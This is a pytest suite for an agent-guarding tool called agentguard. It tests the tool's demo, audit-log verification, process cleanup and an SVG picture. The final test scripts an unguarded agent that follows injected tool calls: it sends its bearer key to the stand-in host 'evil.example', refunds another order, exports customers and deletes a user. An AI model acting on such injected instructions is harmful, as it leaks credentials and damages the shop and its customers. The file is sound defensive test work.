from __future__ import annotations

import os
import re
import signal
import subprocess
import sys
import time
from dataclasses import replace
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import httpx
import pytest
from langchain.agents import create_agent
from langchain_core.messages import AIMessage
from starlette.applications import Starlette
from starlette.testclient import TestClient
from typer.testing import CliRunner

from agentguard.audit import verify
from agentguard.audit.timeline import Timeline
from agentguard.cli import main
from agentguard.cli.demo.agent import tools
from agentguard.cli.demo.picture import MARGIN, WIDTH, CallResult, draw
from agentguard.cli.demo.shop import Shop
from agentguard.cli.demo.story import EVIL, STORY
from agentguard.testing import ScriptedChatModel

ROOT = Path(__file__).parents[2]
PICTURE = ROOT / "agentguard/cli/demo/picture.svg"
DEMO = [sys.executable, "-c", "from agentguard.cli import main; main()", "demo"]
CALLS = (*STORY.task_calls, *STORY.injected_calls, STORY.tapped_call, STORY.late_call)
LIMIT = 15.0  # seconds; what the demo promises


def children(pid: int) -> list[int]:
    """Return the processes that *pid* has started."""
    return [int(child) for child in Path(f"/proc/{pid}/task/{pid}/children").read_text().split()]


def alive(pid: int) -> bool:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] != "Z"
    except FileNotFoundError:
        return False


@pytest.mark.timing
@pytest.mark.promise("demo-keeps-its-promises")
def test_the_demo_keeps_its_promises_in_time_and_leaves_a_sound_log(tmp_path: Path) -> None:
    begun = time.monotonic()
    ran = subprocess.run(
        [*DEMO, "--keep", str(tmp_path / "kept"), "--svg", str(tmp_path / "picture.svg")],
        capture_output=True,
        text=True,
        timeout=4 * LIMIT,
        check=False,
        env={**os.environ, "COLUMNS": "80"},
    )
    elapsed = time.monotonic() - begun
    assert ran.returncode == 0, ran.stdout + ran.stderr
    assert elapsed < LIMIT
    *lines, command = ran.stdout.strip().splitlines()
    assert max(map(len, lines)) <= 80
    assert "promises kept" in ran.stdout
    match = re.fullmatch(r"agentguard audit verify (.*) --head (.*)", command)
    assert match is not None
    assert CliRunner().invoke(main, ["audit", "verify", match[1], "--head", match[2]]).exit_code == 0
    with Path(match[1]).open("rb") as records:
        assert verify(records).sound
    assert Path(match[1]).stat().st_mode & 0o077 == 0
    # a token begins with {"alg" or {"typ", in base64url
    output = ran.stdout.encode() + b"".join(
        file.read_bytes() for file in (tmp_path / "kept").rglob("*") if file.is_file()
    )
    assert b"eyJ" not in output
    assert PICTURE.read_bytes() == (tmp_path / "picture.svg").read_bytes(), (
        f"the README's picture is out of date: agentguard demo --svg {PICTURE.relative_to(ROOT)}"
    )


@pytest.mark.process
@pytest.mark.promise("demo-keeps-its-promises")
def test_a_promise_that_is_not_kept_is_named_and_fails_the_demo(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    bearer, *later_attempts = STORY.early_attempts
    broken = replace(
        STORY,
        late_call=replace(STORY.late_call, outcome="done"),
        early_attempts=(replace(bearer, error="invalid_request"), *later_attempts),
        deeds=("refund 4711", "close dispute 4711", "refund 4712"),
    )
    monkeypatch.setattr("agentguard.cli.demo.STORY", broken)
    result = CliRunner().invoke(main, ["demo", "--keep", str(tmp_path)], catch_exceptions=False)
    assert result.exit_code == 1
    assert "3 of 32 promises BROKEN" in result.output
    broken_promises = re.findall(
        r"^  (get_order: promised|thief, bearer: promised|the shop has carried out)", result.output, re.M
    )
    assert sorted(broken_promises) == [
        "get_order: promised",
        "the shop has carried out",
        "thief, bearer: promised",
    ]


@pytest.mark.process
@pytest.mark.promise("demo-keeps-its-promises")
@pytest.mark.parametrize(("number", "code"), [(signal.SIGINT, 130), (signal.SIGKILL, -signal.SIGKILL)])
@pytest.mark.usefixtures("signal_handlers")
def test_a_demo_that_is_interrupted_leaves_no_process(
    number: signal.Signals, code: int, tmp_path: Path
) -> None:
    errors, temporary = tmp_path / "stderr", tmp_path / "temporary"
    temporary.mkdir()
    with (
        errors.open("wb") as stderr,
        subprocess.Popen(
            DEMO, stdout=subprocess.PIPE, stderr=stderr, env={**os.environ, "TMPDIR": str(temporary)}
        ) as demo,
    ):
        assert demo.stdout is not None
        assert demo.stdout.readline(), errors.read_text()  # the shop has started
        started = children(demo.pid)
        assert len(started) == 2
        demo.send_signal(number)
        assert demo.wait(10) == code
    deadline = time.monotonic() + 10
    while (survivors := [pid for pid in started if alive(pid)]) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not survivors
    if number is signal.SIGINT:
        assert not list(temporary.iterdir())


def test_a_directory_that_is_not_empty_is_left_alone(tmp_path: Path) -> None:
    (tmp_path / "agentguard.toml").write_text("mine")
    result = CliRunner().invoke(main, ["demo", "--keep", str(tmp_path)])
    assert result.exit_code == 1
    assert [file.read_text() for file in tmp_path.iterdir()] == ["mine"]


@pytest.mark.process
def test_without_its_extra_the_demo_says_so() -> None:
    program = "import sys; sys.modules['uvicorn'] = None; from agentguard.cli import main; main(['demo'])"
    ran = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, check=False)
    assert ran.returncode == 1
    assert "pip install 'agentguard[demo]'" in ran.stderr
    assert "Traceback" not in ran.stderr


def test_the_story_covers_each_refusal_by_a_code_of_its_own() -> None:
    calls = {call.outcome for call in CALLS}
    assert calls == {"done", "failed", "mandate", "policy", "approval_refused", "task_ended"}
    answers = [
        (attempt.status, attempt.error, attempt.reason)
        for attempt in (*STORY.early_attempts, *STORY.late_attempts)
    ]
    assert len(set(answers)) == len(answers) == 7


def test_the_picture_has_both_color_schemes_and_a_text_for_those_who_cannot_see_it() -> None:
    picture = ElementTree.fromstring(PICTURE.read_text("utf-8"))  # noqa: S314  a file of ours
    space = "{http://www.w3.org/2000/svg}"
    style = picture.findtext(f"{space}style", "")
    light, dark = (set(re.findall(r"--(\w+):#", part)) for part in style.split("prefers-color-scheme: dark"))
    assert light == dark
    assert picture.get("role") == "img"
    assert picture.findtext(f"{space}title")
    text = " ".join(picture.itertext())
    for call in CALLS:
        assert f"{call.tool}(" in text
    assert not list(picture.iter(f"{space}image"))
    assert not re.search(r"https?://|\d\d:\d\d|127\.0", text)


@pytest.mark.process
def test_a_picture_that_cannot_be_written_is_said(tmp_path: Path) -> None:
    file = tmp_path / "missing" / "picture.svg"
    result = CliRunner().invoke(main, ["demo", "--keep", str(tmp_path / "kept"), "--svg", str(file)])
    assert result.exit_code == 1
    assert "No such file or directory" in result.output


def test_a_credential_that_stays_alive_is_drawn_to_the_end() -> None:
    call, *_ = STORY.task_calls
    facts: dict[str, Any] = {"tool": call.tool, "path": "read", "effect": "permit", "policies": ["p"]}
    decision = {"event": "decision", "at": "2026-01-01T00:00:00Z", "call": "1", **facts}
    ending = {"event": "outcome", "call": "1", "credential": "1", "outcome": "done", "seconds": 0.1}
    pictures = []
    for revoked in (True, False):
        (step,) = Timeline([decision, ending | {"revoked": revoked}])
        results = [CallResult(call, step, success=True) for call in CALLS]
        pictures.append(draw(STORY, results, {}))
    for count, picture in zip((len(CALLS), 0), pictures, strict=True):
        assert f"{len(CALLS)} credentials were minted, {count} are revoked" in picture
    ends = [
        max(map(float, re.findall(r'class="life" d="M[0-9.]+ \d+H([0-9.]+)"', text))) for text in pictures
    ]
    assert ends[0] < ends[1] == WIDTH - MARGIN


def test_without_a_guard_the_same_agent_does_all_the_harm() -> None:
    """What the picture and the README say of an agent with a standing key."""
    shop, keys_at_evil = Shop(), list[str]()
    web = TestClient(Starlette(routes=shop.routes()), base_url="http://shop.example")

    def serve(request: httpx.Request) -> httpx.Response:
        if request.url.host == "evil.example":
            keys_at_evil.append(request.headers["Authorization"])
            return httpx.Response(200)
        answer = web.request(request.method, request.url.path, content=request.content)
        return httpx.Response(answer.status_code, content=answer.content)

    client = httpx.Client(
        base_url="http://shop.example",
        headers={"Authorization": "Bearer standing-key"},
        transport=httpx.MockTransport(serve),
    )
    calls = [call for call in (*STORY.task_calls, *STORY.injected_calls) if call.tool != "call_webhook"]
    script: list[Any] = []
    for number, call in enumerate(calls):
        arguments = {n: "http://evil.example" if v == EVIL else v for n, v in call.args.items()}
        request = {"name": call.tool, "args": arguments, "id": f"call-{number}"}
        script.append(AIMessage("", tool_calls=[request]))
    with client:
        model = ScriptedChatModel(script=[*script, "I am done."])
        state: Any = {"messages": [("user", "Please refund order 4711.")]}
        create_agent(model, tools(client)).invoke(state)
    harm = ["refund 4712", "export customers", "delete alice"]
    assert shop.deeds == [*STORY.deeds, *harm]
    assert keys_at_evil == ["Bearer standing-key"]
